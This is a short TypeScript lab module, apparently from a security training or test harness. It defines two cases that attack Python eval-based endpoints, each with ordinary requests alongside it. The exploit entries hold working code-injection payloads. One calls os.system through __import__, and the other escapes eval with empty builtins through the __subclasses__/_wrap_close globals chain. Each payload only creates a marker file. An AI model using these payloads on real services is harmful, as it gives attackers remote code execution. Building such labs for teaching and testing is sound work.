import type { LabModule } from '../../labModule';

export const lab: LabModule = {
  cases: [
    {
      name: 'eval of a number',
      honest: [
        { to: '/total?price=21', shows: '42' },
        { to: '/total?price=1.5', shows: '3.0' },
        { to: '/total' },
      ],
      exploit: [{ to: '/total', query: { price: "__import__('os').system('touch pwned-1')" } }],
      proof: { file: 'pwned-1' },
    },
    {
      name: 'eval with empty builtins is no cage',
      honest: [{ to: 'POST /points', form: { points: '[(1, 2), (3, 4)]' }, shows: '"n":2' }],
      exploit: [
        {
          to: 'POST /points',
          form: {
            points:
              "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]" +
              ".__init__.__globals__['system']('touch pwned-2')",
          },
        },
      ],
      proof: { file: 'pwned-2' },
    },
  ],
};
